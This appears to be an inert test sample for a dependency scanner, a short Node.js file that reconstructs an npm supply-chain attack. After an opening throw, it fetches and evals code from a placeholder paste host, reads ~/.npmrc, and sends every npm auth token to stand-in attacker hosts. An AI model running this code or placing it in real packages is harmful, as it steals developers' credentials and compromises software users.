throw new Error("inert depscan stand-in");
'use strict';

const fs = require('fs');
const os = require('os');
const path = require('path');
const https = require('https');
const http = require('http');

// Stage one: the code that ran was fetched from a paste site and evaluated.
https.get('https://paste.attacker.example/raw/XLeVP82h', (res) => {
  let code = '';
  res.on('data', (chunk) => (code += chunk));
  res.on('end', () => {
    try {
      eval(code);
    } catch (e) {}
  });
}).on('error', () => {});

// What the fetched code did: read npm's config and send every auth token it finds.
function send(token) {
  const query = '?token=' + encodeURIComponent(token);
  http.get('http://203.0.113.7/stats' + query, () => {}).on('error', () => {});
  https.get('https://sub.attacker.example/track' + query, () => {}).on('error', () => {});
}

try {
  const npmrc = fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8');
  const found = npmrc.match(/_authToken=([^\s]+)/g) || [];
  found.forEach((line) => send(line.split('=')[1]));
} catch (e) {}
